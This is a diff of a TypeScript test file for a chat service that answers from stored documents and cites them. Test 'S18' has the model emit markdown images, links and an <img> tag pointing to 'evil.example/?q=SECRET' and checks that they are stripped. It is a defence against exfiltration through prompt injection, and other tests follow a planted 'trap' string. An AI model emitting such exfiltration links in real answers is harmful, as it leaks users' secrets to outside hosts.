@@ -1,29 +1,13 @@
-import type { Citation } from '@guildhall/contract';
 import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { testApp } from '../../../../../../test/app.ts';
-import type { Parts } from '../../../app.ts';
-import type { AskedBody, Step } from '../../../../../../test/model-server.ts';
-import {
-  breaksOff,
-  calls,
-  dropsConnection,
-  hangs,
-  hangsAfter,
-  hangsAfterHeaders,
-  isBusy,
-  refuses,
-  says,
-  sends,
-  sendsEvents,
-} from '../../../../../../test/model-steps.ts';
+import { says } from '../../../../../../test/model-steps.ts';
 import { newTree } from '../../../../../../test/world.ts';
 import type { TestTree } from '../../../../../../test/world.ts';
 import { createApp } from '../../../app.ts';
+import type { Parts } from '../../../app.ts';
 import { documentClient } from '../../../knowledge/documents/fixtures/client.ts';
 import type { DocumentClient } from '../../../knowledge/documents/fixtures/client.ts';
-import { ModelError } from '../../../ports/model/model.ts';
-import type { LanguageModel } from '../../../ports/model/model.ts';
-import { openScripted } from '../../../ports/model/fixtures/scripted-model.ts';
+import { chatWith, dataOf } from './fixtures/chat-with-model.ts';
 
 let parts: Parts;
 let tree: TestTree;
@@ -40,38 +24,6 @@ beforeEach(async () => {
   ({ id: documentId } = await client.addSettled('boats.md', text));
 });
 
-/** The server with a model that answers by the script, and a chat with it. */
-async function chatWith(steps: Step[], timeoutMs = 10_000) {
-  const { model, asked, server } = await openScripted([]);
-  server.script(...steps);
-  const quick: LanguageModel = {
-    name: model.name,
-    // How it helps with the search is another test's: here it only writes.
-    complete: () => Promise.reject(new ModelError('refused', 'it only writes')),
-    stream: (request) => model.stream({ ...request, timeoutMs }),
-  };
-  const app = createApp({ ...parts, model: quick });
-  const talk = documentClient(app, tree);
-  const { body } = await talk.ask('POST', '/v1/chats', { userEmail: tree.owner.email });
-  const path = `/v1/chats/${body.chat.id}`;
-  return {
-    app,
-    asked,
-    path,
-    ...talk,
-    say: async (text: string) => {
-      const sent = await talk.ask('POST', `${path}/messages`, { text });
-      return { status: sent.status, message: sent.body.message };
-    },
-    kept: async () => (await talk.ask('GET', path)).body.chat.messages.at(-1),
-  };
-}
-
-/** What the model was given as data. */
-function dataOf({ messages }: AskedBody): any {
-  return JSON.parse(messages.find(({ role }) => role === 'user')!.content);
-}
-
 /** The last request: the one that wrote the answer. */
 const lastOf = <T>(all: T[]): T => all.at(-1)!;
 
@@ -80,9 +32,9 @@ const question = 'When does the green boat leave?';
 describe('an answer of the model', () => {
   test('cites what it was given, in the order in which it cites', async () => {
     await client.addSettled('sheds.md', 'Every boat stands in the shed at night.');
-    const { say, asked } = await chatWith([
+    const { say, asked } = await chatWith(parts, tree, [
       async (asking, response) => {
-        const { passages } = dataOf(asking.body);
+        const { passages } = dataOf(asking);
         const of = (name: string) =>
           passages.find(({ document }: { document: string }) => document === name).number;
         const text = `It stands in the shed [${of('sheds.md')}]. It leaves at nine [${of('boats.md')}, 99].`;
@@ -104,16 +56,16 @@ describe('an answer of the model', () => {
   });
 
   test('an invented number is dropped from the text and is no citation', async () => {
-    const { say } = await chatWith([says('At nine [7]. Or at ten [0][8]!')]);
+    const { say } = await chatWith(parts, tree, [says('At nine [7]. Or at ten [0][8]!')]);
     const { message } = await say(question);
     expect([message.text, message.citations]).toEqual(['At nine. Or at ten!', []]);
   });
 
   test('words that the answer quotes are the quote, if they stand on the page', async () => {
-    const right = await chatWith([says('It says “red boat leaves at noon” [1].')]);
-    expect((await right.say(question)).message.citations[0].quote).toBe('red boat leaves at noon');
-    const wrong = await chatWith([says('It says “green boats never leave” [1].')]);
-    expect((await wrong.say(question)).message.citations[0].quote).toBe(
+    const right = await chatWith(parts, tree, [says('It says “red boat leaves at noon” [1].')]);
+    expect((await right.say(question)).message.citations[0]?.quote).toBe('red boat leaves at noon');
+    const wrong = await chatWith(parts, tree, [says('It says “green boats never leave” [1].')]);
+    expect((await wrong.say(question)).message.citations[0]?.quote).toBe(
       'The green boat leaves at nine.',
     );
   });
@@ -121,7 +73,7 @@ describe('an answer of the model', () => {
   test('S18: has no link and no picture, in the stream and kept', async () => {
     const evil = 'https://evil.example/?q=SECRET';
     const spoken = `At ![x](${evil}) [nine][r] <img src="${evil}"> [1](${evil})\n\n[r]: ${evil}`;
-    const { app, path, kept } = await chatWith([says(spoken, { deltaLength: 1 })]);
+    const { app, path, kept } = await chatWith(parts, tree, [says(spoken, { deltaLength: 1 })]);
     const response = await app.request(`${path}/messages`, {
       method: 'POST',
       headers: { ...tree.headers, accept: 'text/event-stream' },
@@ -136,7 +88,7 @@ describe('an answer of the model', () => {
   });
 
   test('with a token budget that was too small says so', async () => {
-    const { say } = await chatWith([says('It leaves at', { finish: 'length' })]);
+    const { say } = await chatWith(parts, tree, [says('It leaves at', { finish: 'length' })]);
     const { message } = await say(question);
     expect(message).toMatchObject({ state: 'done', text: 'It leaves at' });
     expect(JSON.stringify(message.steps)).toContain('budget');
@@ -149,7 +101,7 @@ describe('what the model is given', () => {
     await client.addSettled('trap.md', `The green boat trap: ${trap}`);
     const { agents } = (await client.ask('GET', '/v1/agents')).body;
     await client.ask('PATCH', `/v1/agents/${agents[0].id}`, { instructions: `Be brief. ${trap}` });
-    const { say, asked } = await chatWith([says('First.'), says('Second.')]);
+    const { say, asked } = await chatWith(parts, tree, [says('First.'), says('Second.')]);
     await say(`What of the green boat? ${trap}`);
     await say(`And the green boat trap? ${trap}`);
     const { body } = lastOf(asked);
@@ -157,7 +109,7 @@ describe('what the model is given', () => {
     const [system] = body.messages;
     expect(system!.content).toContain(`From the team's leaders:\nBe brief. ${trap}`);
     expect(system!.content.split(trap)).toHaveLength(2);
-    const data = dataOf(body);
+    const data = dataOf(lastOf(asked));
     expect(data).toMatchObject({
       question: `And the green boat trap? ${trap}`,
       history: [
@@ -172,9 +124,9 @@ describe('what the model is given', () => {
   test('passages are numbered, with document and page, and stay within their budget', async () => {
     const page = 'The green boat is long. '.repeat(2_000);
     for (let at = 0; at < 4; at += 1) await client.addSettled(`long ${at}.md`, `${at} ${page}`);
-    const { say, asked } = await chatWith([says('Long.')]);
+    const { say, asked } = await chatWith(parts, tree, [says('Long.')]);
     await say(question);
-    const { passages } = dataOf(lastOf(asked).body);
+    const { passages } = dataOf(lastOf(asked));
     expect(passages.map(({ number }: any) => number)).toEqual(
       passages.map((_: any, at: number) => at + 1),
     );
@@ -199,7 +151,7 @@ async function correct(userText: string, correctedResponse: string, verb = 'appr
 describe('corrections', () => {
   test('of nearly the same question are the answer, and the model is not asked', async () => {
     const id = await correct(question, 'At ten, since April.');
-    const { say, asked } = await chatWith([]);
+    const { say, asked } = await chatWith(parts, tree, []);
     const { message } = await say('When will the green boat leave?');
     expect(message).toMatchObject({ text: 'At ten, since April.', trainingIds: [id] });
     expect(asked).toEqual([]);
@@ -214,11 +166,11 @@ describe('corrections', () => {
     await correct('Does the green boat leave in the spring?', 'Pending words.', '');
     const rejected = await correct('Does the green boat leave in autumn?', 'Rejected words.');
     await client.ask('POST', `/v1/training/${rejected}/reject`);
-    const { say, asked } = await chatWith([says('On Sundays.')]);
+    const { say, asked } = await chatWith(parts, tree, [says('On Sundays.')]);
     const { message } = await say('When does the green boat leave the old harbour?');
     expect(new Set(message.trainingIds)).toEqual(new Set([near, pinned]));
     const [system, user] = lastOf(asked).body.messages;
-    const data = dataOf(lastOf(asked).body);
+    const data = dataOf(lastOf(asked));
     expect(data.corrections).toContainEqual(
       expect.objectContaining({ answer: 'Elephants pay double.', pinned: true }),
     );
@@ -230,76 +182,13 @@ describe('corrections', () => {
   });
 });
 
-describe('a model that fails', () => {
-  const before: [name: string, steps: Step[]][] = [
-    ['refuses', [refuses(401)]],
-    ['is busy for good', [isBusy(), isBusy(), isBusy()]],
-    ['is busy for an hour', [isBusy(3_600)]],
-    ['drops the connection', [dropsConnection(), dropsConnection(), dropsConnection()]],
-    ['sends a page', [sends('<html>', 'text/html')]],
-    ['sends events of rubbish', [sendsEvents('{"choices": rubbish')]],
-    ['says nothing', [says('')]],
-    ['says only what is dropped', [says(' [99] ')]],
-    ['calls a tool that nobody offered', [calls([{ name: 'delete_all', input: {} }])]],
-    ['hangs', [hangs()]],
-    ['hangs after its headers', [hangsAfterHeaders()]],
-  ];
-
-  test.each(before)(
-    'before its first word, for it %s: the documents are quoted',
-    async (_, steps) => {
-      const { say, kept } = await chatWith([...steps], 400);
-      const { status, message } = await say(question);
-      expect(status).toBe(201);
-      expect(message).toMatchObject({ state: 'done', citations: [{ documentId, pageNumber: 1 }] });
-      expect(message.text).toContain('The green boat leaves at nine.');
-      expect(JSON.stringify(message.steps)).toContain('did not answer');
-      expect(await kept()).toEqual(message);
-    },
-  );
-
-  test.each([
-    ['breaks off', breaksOff('It leaves at')],
-    ['hangs', hangsAfter('It leaves at')],
-    [
-      'sends an error',
-      sendsEvents(
-        { choices: [{ delta: { content: 'It leaves at' } }] },
-        { error: { message: 'No' } },
-      ),
-    ],
-    ['is cut by a filter', says('It leaves at', { finish: 'content_filter' })],
-  ])('in the middle, for it %s: the answer failed, and keeps what there was', async (_, step) => {
-    const { say, kept } = await chatWith([step], 400);
-    expect((await say(question)).status).toBe(502);
-    expect(await kept()).toMatchObject({ state: 'failed', text: 'It leaves at', trainingIds: [] });
-  });
-
-  test('and passes is asked again', async () => {
-    const { say } = await chatWith([isBusy(0), says('At nine [1].')]);
-    expect((await say(question)).message.text).toBe('At nine [1].');
-  });
-});
-
-test('stopping ends the request to the model, and keeps what there was', async () => {
-  const { say, ask, asked, path, kept } = await chatWith([hangsAfter('It leaves')], 30_000);
-  const said = say(question);
-  while (asked.length < 1) await new Promise((resolve) => setTimeout(resolve, 5));
-  const writing = await kept();
-  expect(writing.state).toBe('writing');
-  expect((await ask('POST', `${path}/messages/${writing.id}/stop`)).status).toBe(200);
-  await said;
-  expect(await lastOf(asked).over).toBe(false);
-  expect((await kept()).state).toBe('stopped');
-});
-
 test('the words of a citation stand on the page', async () => {
   const page = 'Alpha  beta\ngamma. Delta | epsilon\n\nZeta';
   await client.addSettled('odd.md', page);
-  const { say } = await chatWith([says('Said [1] and [2]. „Nothing“ [1]')]);
+  const { say } = await chatWith(parts, tree, [says('Said [1] and [2]. „Nothing“ [1]')]);
   const { message } = await say('What of alpha and epsilon?');
   expect(message.citations.length).toBeGreaterThan(0);
-  for (const { documentId: id, pageNumber, quote } of message.citations as Citation[]) {
+  for (const { documentId: id, pageNumber, quote } of message.citations) {
     const { body } = await client.ask('GET', `/v1/documents/${id}/pages/${pageNumber}`);
     expect(body.page.text.replaceAll(/\s+/g, ' ')).toContain(quote);
   }
